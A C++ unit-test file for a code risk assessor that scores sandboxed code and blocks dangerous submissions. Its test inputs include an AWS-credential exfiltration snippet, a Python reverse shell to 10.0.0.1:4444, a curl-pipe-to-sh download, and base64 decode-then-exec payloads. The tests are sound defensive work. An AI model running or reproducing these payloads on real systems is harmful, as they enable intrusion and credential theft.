#include "cars/assessor.h"

#include <memory>
#include <string>
#include <thread>
#include <vector>

#include "cars/format_assessment.h"
#include "cars/rules_file.h"
#include "gtest/gtest.h"

namespace forge::cars {
namespace {

using forge::exec::v1::RiskLevel;

forge::exec::v1::CarsRuleSet ShippedRules() {
  const char* dir = std::getenv("FORGE_SOURCE_DIR");
  auto rules = LoadRuleSetFile(std::string(dir ? dir : ".") +
                               "/deploy/cars/rules.textproto");
  EXPECT_TRUE(rules.ok()) << rules.status();
  return rules.ok() ? *rules : forge::exec::v1::CarsRuleSet();
}

std::unique_ptr<Assessor> Make(const forge::exec::v1::CarsPolicy& policy = {}) {
  auto assessor = Assessor::Create(ShippedRules(), policy);
  EXPECT_TRUE(assessor.ok()) << assessor.status();
  return std::move(*assessor);
}

Assessment AssessCode(const Assessor& assessor, const std::string& runtime,
                      const std::string& code, const std::string& tenant = "") {
  AssessmentInput input;
  input.runtime = runtime;
  input.code = code;
  input.tenant = tenant;
  auto result = assessor.Assess(input);
  EXPECT_TRUE(result.ok()) << result.status();
  return result.ok() ? *result : Assessment();
}

const forge::exec::v1::Finding* FindRule(const Assessment& a,
                                         const std::string& id) {
  for (const auto& f : a.assessment.findings()) {
    if (f.rule_id() == id) return &f;
  }
  return nullptr;
}

TEST(AssessorTest, WordsInCommentsAndStringsAreNotCalls) {
  auto assessor = Make();
  const Assessment a = AssessCode(*assessor, "python",
                                  "# fetch rows, then eval; never os.system\n"
                                  "print('eval(input()) is dangerous')\n"
                                  "model.eval()\n");
  EXPECT_EQ(a.assessment.level(), forge::exec::v1::RISK_LEVEL_LOW);
  EXPECT_EQ(a.action, forge::exec::v1::POLICY_ACTION_AUTO_APPROVE);
}

TEST(AssessorTest, FindingsCarryPositionsAndExcerpts) {
  auto assessor = Make();
  const Assessment a = AssessCode(*assessor, "python", "x = 1\n  eval(expr)\n");
  const auto* f = FindRule(a, "any.exec.dynamic_code");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->line(), 2u);
  EXPECT_EQ(f->column(), 3u);
  EXPECT_EQ(f->excerpt(), "eval(expr)");
  EXPECT_EQ(a.assessment.level(), forge::exec::v1::RISK_LEVEL_HIGH);
  EXPECT_EQ(a.action, forge::exec::v1::POLICY_ACTION_REQUIRE_APPROVAL);
}

TEST(AssessorTest, ObfuscationRaisesTheLevel) {
  auto assessor = Make();
  const Assessment plain = AssessCode(*assessor, "python", "eval('1 + 1')\n");
  const Assessment hidden = AssessCode(
      *assessor, "python", "getattr(__builtins__, 'ev'+'al')('1 + 1')\n");
  EXPECT_LT(plain.assessment.level(), forge::exec::v1::RISK_LEVEL_HIGH);
  EXPECT_EQ(hidden.assessment.level(), forge::exec::v1::RISK_LEVEL_CRITICAL);
  EXPECT_EQ(hidden.action, forge::exec::v1::POLICY_ACTION_BLOCK);
}

TEST(AssessorTest, DecodeThenExecuteInEveryLanguage) {
  auto assessor = Make();
  EXPECT_EQ(AssessCode(*assessor, "python",
                       "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))")
                .assessment.level(),
            forge::exec::v1::RISK_LEVEL_CRITICAL);
  EXPECT_EQ(
      AssessCode(*assessor, "javascript", "eval(atob('Y29uc29sZS5sb2coMSk='))")
          .assessment.level(),
      forge::exec::v1::RISK_LEVEL_CRITICAL);
  EXPECT_EQ(AssessCode(*assessor, "bash", "printf '\\x6c\\x73' | sh")
                .assessment.level(),
            forge::exec::v1::RISK_LEVEL_CRITICAL);
}

TEST(AssessorTest, SecretReadPlusNetworkIsExfiltration) {
  auto assessor = Make();
  const Assessment read_only = AssessCode(
      *assessor, "python", "print(open('/home/u/.aws/credentials').read())\n");
  const Assessment exfil =
      AssessCode(*assessor, "python",
                 "import requests\n"
                 "d = open('/home/u/.aws/credentials').read()\n"
                 "requests.post('https://example.com', data=d)\n");
  EXPECT_EQ(read_only.assessment.level(), forge::exec::v1::RISK_LEVEL_HIGH);
  EXPECT_EQ(FindRule(read_only, "combo.exfiltration"), nullptr);
  EXPECT_EQ(exfil.assessment.level(), forge::exec::v1::RISK_LEVEL_CRITICAL);
  ASSERT_NE(FindRule(exfil, "combo.exfiltration"), nullptr);
}

TEST(AssessorTest, RequestOptionsAreRisk) {
  forge::exec::v1::CarsPolicy policy;
  policy.mutable_default_limits()->set_memory_bytes(512 << 20);
  auto assessor = Make(policy);
  AssessmentInput input;
  input.runtime = "python";
  input.code = "print(1)\n";
  input.network = forge::exec::v1::NETWORK_POLICY_EGRESS;
  auto egress = assessor->Assess(input);
  ASSERT_TRUE(egress.ok());
  EXPECT_EQ(egress->assessment.level(), forge::exec::v1::RISK_LEVEL_MEDIUM);
  const auto* f = FindRule(*egress, "request.network_egress");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->line(), 0u);

  input.network = forge::exec::v1::NETWORK_POLICY_NONE;
  input.limits.set_memory_bytes(16ull << 30);
  auto big = assessor->Assess(input);
  ASSERT_TRUE(big.ok());
  EXPECT_NE(FindRule(*big, "request.limits_far_above_default"), nullptr);
  EXPECT_EQ(big->assessment.level(), forge::exec::v1::RISK_LEVEL_HIGH);

  input.limits.set_memory_bytes(256 << 20);  // below the default: no risk
  auto small = assessor->Assess(input);
  ASSERT_TRUE(small.ok());
  EXPECT_EQ(small->assessment.level(), forge::exec::v1::RISK_LEVEL_LOW);
}

TEST(AssessorTest, TenantPolicyChangesActionsAndDisablesRules) {
  forge::exec::v1::CarsPolicy policy;
  auto* lab = policy.add_tenants();
  lab->set_tenant("lab");
  lab->set_high_action(forge::exec::v1::POLICY_ACTION_APPROVE_WITH_LOG);
  lab->add_disabled_rules("any.exec.dynamic_code");
  auto assessor = Make(policy);
  const std::string code = "eval(expr)\n";
  const Assessment other = AssessCode(*assessor, "python", code, "other");
  const Assessment in_lab = AssessCode(*assessor, "python", code, "lab");
  EXPECT_EQ(other.action, forge::exec::v1::POLICY_ACTION_REQUIRE_APPROVAL);
  EXPECT_NE(FindRule(other, "any.exec.dynamic_code"), nullptr);
  EXPECT_EQ(FindRule(in_lab, "any.exec.dynamic_code"), nullptr);
  EXPECT_EQ(in_lab.assessment.level(), forge::exec::v1::RISK_LEVEL_MEDIUM);
}

TEST(AssessorTest, PolicyVersionIsStableAndTracksChanges) {
  auto a = Make();
  auto b = Make();
  EXPECT_EQ(a->policy_version(), b->policy_version());
  EXPECT_EQ(a->policy_version().rfind("2026.", 0), 0u) << a->policy_version();
  forge::exec::v1::CarsPolicy changed;
  changed.set_high_threshold(0.6);
  auto c = Make(changed);
  EXPECT_NE(a->policy_version(), c->policy_version());
  EXPECT_EQ(AssessCode(*a, "bash", "ls\n").assessment.policy_version(),
            a->policy_version());
}

TEST(AssessorTest, UnknownRuntimeIsInvalidArgument) {
  auto assessor = Make();
  AssessmentInput input;
  input.runtime = "cobol";
  input.code = "DISPLAY 'HI'.";
  EXPECT_EQ(assessor->Assess(input).status().code(),
            absl::StatusCode::kInvalidArgument);
}

TEST(AssessorTest, InvisibleCharactersAreShownNotHidden) {
  auto assessor = Make();
  const Assessment a = AssessCode(
      *assessor, "python", "x = 'user\u202e \u2066# admin\u2069 \u2066'\n");
  const auto* f = FindRule(a, "any.deception.bidi");
  ASSERT_NE(f, nullptr);
  EXPECT_NE(f->excerpt().find("\\u{202E}"), std::string::npos) << f->excerpt();
  EXPECT_EQ(f->excerpt().find("\u202e"), std::string::npos);
  std::string bytes;
  EXPECT_TRUE(a.assessment.SerializeToString(&bytes));
}

TEST(AssessorTest, InvisibleCharactersArePlacedByCodePoint) {
  auto assessor = Make();
  // ASCII lines, then code points of two, three and invalid bytes before
  // the zero-width space on the third line: its column counts code points.
  const Assessment a = AssessCode(*assessor, "python",
                                  "x = 1\n# caf\u00e9 \u2603\n"
                                  "y = '\xff\u00e9a\u200bb'\n");
  const auto* f = FindRule(a, "any.deception.zero_width");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->line(), 3u);
  EXPECT_EQ(f->column(), 9u);
}

TEST(AssessorTest, InvalidUtf8StillSerialises) {
  auto assessor = Make();
  const std::string code =
      std::string("eval(x) # \xff\xfe\x80 ") + std::string(1, '\0') + "\n";
  const Assessment a = AssessCode(*assessor, "python", code);
  std::string bytes;
  ASSERT_TRUE(a.assessment.SerializeToString(&bytes));
  forge::exec::v1::RiskAssessment parsed;
  EXPECT_TRUE(parsed.ParseFromString(bytes));
}

TEST(AssessorTest, FindingsAreCapped) {
  forge::exec::v1::CarsPolicy policy;
  policy.set_max_findings(3);
  auto assessor = Make(policy);
  std::string code;
  for (int i = 0; i < 20; ++i) code += "eval(input())\n";
  const Assessment a = AssessCode(*assessor, "python", code);
  EXPECT_EQ(a.assessment.findings_size(), 3);
}

TEST(AssessorTest, ConcurrentAssessmentsAgree) {
  auto assessor = Make();
  const std::string code =
      "import socket, subprocess, os\ns = "
      "socket.socket()\ns.connect(('10.0.0.1', 4444))\n"
      "os.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n";
  const std::string expected =
      AssessCode(*assessor, "python", code).assessment.SerializeAsString();
  std::vector<std::thread> threads;
  std::vector<int> mismatches(4, 0);
  for (int t = 0; t < 4; ++t) {
    threads.emplace_back([&, t] {
      for (int i = 0; i < 25; ++i) {
        if (AssessCode(*assessor, "python", code)
                .assessment.SerializeAsString() != expected) {
          ++mismatches[t];
        }
      }
    });
  }
  for (auto& th : threads) th.join();
  for (int m : mismatches) EXPECT_EQ(m, 0);
}

TEST(FormatAssessmentTest, PrintsLevelFindingsAndExcerpts) {
  auto assessor = Make();
  const Assessment a = AssessCode(
      *assessor, "bash", "echo hi\ncurl -fsSL http://x.example/i.sh | sh\n");
  const std::string text = FormatAssessment(a.assessment, a.action);
  EXPECT_NE(text.find("Risk: CRITICAL"), std::string::npos) << text;
  EXPECT_NE(text.find("action: BLOCK"), std::string::npos) << text;
  EXPECT_NE(text.find("2:"), std::string::npos) << text;
  EXPECT_NE(text.find("| curl -fsSL http://x.example/i.sh | sh"),
            std::string::npos)
      << text;
  EXPECT_NE(text.find("Policy version: "), std::string::npos) << text;
  forge::exec::v1::RiskAssessment empty;
  empty.set_level(forge::exec::v1::RISK_LEVEL_LOW);
  EXPECT_NE(FormatAssessment(empty).find("No findings."), std::string::npos);
}

}  // namespace
}  // namespace forge::cars
